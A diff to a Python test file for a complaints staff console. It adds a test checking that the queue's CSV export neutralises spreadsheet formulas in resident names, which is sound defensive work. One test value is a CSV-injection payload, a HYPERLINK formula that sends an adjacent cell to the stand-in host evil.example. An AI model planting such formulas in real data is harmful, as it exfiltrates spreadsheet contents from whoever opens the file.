@@ -3,12 +3,15 @@ console, could do that they should not, or that broke. Each test is one defect f
 
 from __future__ import annotations
 
+import csv
+import io
+
 import asyncpg
 import httpx
 
 from core.settings import Settings
 from tests.api_helpers import bearer
-from tests.staff_console import console, sign_in
+from tests.staff_console import console, open_complaint, sign_in
 
 __all__ = ["console"]
 
@@ -49,3 +52,26 @@ async def test_a_received_date_the_queue_cannot_count_is_shown_beside_the_filter
     for query in ("received_to=9999-12-31T23:59:59Z", "received_from=0001-01-01T00:00:00Z"):
         listed = await client.get(f"/api/complaints?{query}", headers=bearer("olivia.officer", settings))
         assert listed.status_code in (200, 422), (query, listed.status_code, listed.text[:300])
+
+
+async def test_the_queue_csv_never_hands_a_spreadsheet_a_formula_from_a_residents_name(
+    console: tuple[httpx.AsyncClient, Settings],
+) -> None:
+    """A complainant's name is whatever the resident typed: in the queue's CSV, opened in a spreadsheet, a
+    name starting with = + - @ (or a tab) was a formula (CSV injection: a link that sends the sheet's
+    neighbouring cells elsewhere). It is written as text, with a leading apostrophe; other names as typed."""
+    client, settings = console
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
+    references = {
+        name: await open_complaint(client, settings, complainant={"name": name, "email": "csv@example.org"})
+        for name in (formula, "+44 20 7946 0000", "@SUM(1+1)", "-1+2", "Ada Resident")
+    }
+    await sign_in(client, "olivia.officer")
+    exported = await client.get("/staff/export/unassigned.csv")
+    assert exported.status_code == 200
+    rows = {row[0]: row for row in csv.reader(io.StringIO(exported.text))}
+    assert rows[references[formula]][1] == "'" + formula
+    assert rows[references["+44 20 7946 0000"]][1] == "'+44 20 7946 0000"
+    assert rows[references["@SUM(1+1)"]][1] == "'@SUM(1+1)"
+    assert rows[references["-1+2"]][1] == "'-1+2"
+    assert rows[references["Ada Resident"]][1] == "Ada Resident"
